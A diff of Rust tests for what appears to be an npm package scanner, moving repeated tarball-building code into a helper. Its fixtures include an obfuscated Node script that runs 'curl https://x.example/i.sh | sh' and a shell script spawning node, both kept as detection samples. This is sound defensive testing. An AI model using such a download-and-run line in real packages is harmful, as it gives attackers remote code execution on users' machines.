@@ -223,27 +223,18 @@ fn an_empty_file_is_rejected() {
 /// script and a text file starting with `#` are not.
 #[test]
 fn extensionless_node_script_is_analysed_as_javascript() {
-    let dir = tempfile::tempdir().unwrap();
-    let path = dir.path().join("t.tgz");
     let evil: &[u8] = b"#!/usr/bin/env -S node --no-warnings\nconst c = require('child' + '_process');\nc.exec('curl https://x.example/i.sh | sh');\n";
     let shell: &[u8] = b"#!/bin/sh\nnode -e \"require('child_process').exec('id')\"\n";
     let text: &[u8] = b"# Notes\nrequire('child_process') is mentioned here.\n";
-    std::fs::write(
-        &path,
-        tgz(&[
-            (
-                "package/package.json",
-                br#"{"name":"t","version":"1.0.0","bin":{"tool":"bin/tool"}}"#,
-            ),
-            ("package/bin/tool", evil),
-            ("package/bin/helper", shell),
-            ("package/NOTES", text),
-        ]),
-    )
-    .unwrap();
-    let (code, out, err) = run(&["inspect", path.to_str().unwrap(), "--json"]);
-    assert_eq!(code, 0, "{err}");
-    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let v = inspect_json(&[
+        (
+            "package/package.json",
+            br#"{"name":"t","version":"1.0.0","bin":{"tool":"bin/tool"}}"#,
+        ),
+        ("package/bin/tool", evil),
+        ("package/bin/helper", shell),
+        ("package/NOTES", text),
+    ]);
     let kinds = |p: &str| -> Vec<String> {
         v["entries"][p]["behaviours"]
             .as_array()
@@ -274,27 +265,28 @@ fn extensionless_node_script_is_analysed_as_javascript() {
 /// brackets nested 1,806 deep and `<T< K extends[` made oxc's TypeScript parser take 4 GB in
 /// 19 s (it re-parses ambiguous `<` speculatively and its arena keeps every attempt). A
 /// TypeScript source nested deeper than `limits::TS_BRACKET_DEPTH` is not parsed and says so.
+/// `vetted inspect --json` of a tgz of `files`: exit 0, the parsed report.
+fn inspect_json(files: &[(&str, &[u8])]) -> serde_json::Value {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("t.tgz");
+    std::fs::write(&path, tgz(files)).unwrap();
+    let (code, out, err) = run(&["inspect", path.to_str().unwrap(), "--json"]);
+    assert_eq!(code, 0, "{err}");
+    serde_json::from_str(&out).unwrap()
+}
+
 #[test]
 fn typescript_nested_to_exhaust_the_parser_is_not_parsed() {
     let ts = std::fs::read("tests/fixtures/fuzz/js_analysis-ts-nesting-oom.ts").unwrap();
-    let dir = tempfile::tempdir().unwrap();
-    let path = dir.path().join("t.tgz");
-    std::fs::write(
-        &path,
-        tgz(&[
-            ("package/package.json", br#"{"name":"t","version":"1.0.0"}"#),
-            ("package/a.ts", &ts),
-            // Real TypeScript nests a few levels: analysed as before.
-            (
-                "package/b.ts",
-                b"export function f(x: Array<[number, { a: string }]>): void { if (x) { g([x]); } }\n",
-            ),
-        ]),
-    )
-    .unwrap();
-    let (code, out, err) = run(&["inspect", path.to_str().unwrap(), "--json"]);
-    assert_eq!(code, 0, "{err}");
-    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let v = inspect_json(&[
+        ("package/package.json", br#"{"name":"t","version":"1.0.0"}"#),
+        ("package/a.ts", &ts),
+        // Real TypeScript nests a few levels: analysed as before.
+        (
+            "package/b.ts",
+            b"export function f(x: Array<[number, { a: string }]>): void { if (x) { g([x]); } }\n",
+        ),
+    ]);
     let pe = v["entries"]["package/a.ts"]["parse_error"]
         .as_str()
         .unwrap_or_default();
@@ -357,21 +349,13 @@ fn javascript_nested_to_overflow_the_stack_does_not_abort_the_inspection() {
     let arrays = deep("[", "1", "]", 6_000);
     let conditional = deep("a ? b : ", "c", "", 20_000);
     let arrows = deep("y => ", "1", "", 20_000);
-    let dir = tempfile::tempdir().unwrap();
-    let path = dir.path().join("t.tgz");
-    std::fs::write(
-        &path,
-        tgz(&[
-            ("package/package.json", br#"{"name":"t","version":"1.0.0"}"#),
-            ("package/arrays.js", &arrays),
-            ("package/conditional.js", &conditional),
-            ("package/arrows.js", &arrows),
-        ]),
-    )
-    .unwrap();
-    let (code, out, err) = run(&["inspect", path.to_str().unwrap(), "--json"]);
-    assert_eq!(code, 0, "{err}");
-    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let files: [(&str, &[u8]); 4] = [
+        ("package/package.json", br#"{"name":"t","version":"1.0.0"}"#),
+        ("package/arrays.js", &arrays),
+        ("package/conditional.js", &conditional),
+        ("package/arrows.js", &arrows),
+    ];
+    let v = inspect_json(&files);
     let e = &v["entries"]["package/arrays.js"];
     assert!(e["parse_error"].is_null(), "{e}");
     assert!(e["behaviours"].to_string().contains("process-spawn"), "{e}");
@@ -380,6 +364,9 @@ fn javascript_nested_to_overflow_the_stack_does_not_abort_the_inspection() {
         assert!(pe.contains("limits::JS_NESTING"), "{p}: {pe:?}");
     }
     // A review prints both sides of a changed module: as deep, on the compare threads too.
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("t.tgz");
+    std::fs::write(&path, tgz(&files)).unwrap();
     let other = dir.path().join("u.tgz");
     let mut arrays2 = arrays.clone();
     arrays2.extend_from_slice(b"fetch('https://example.com/x');\n");
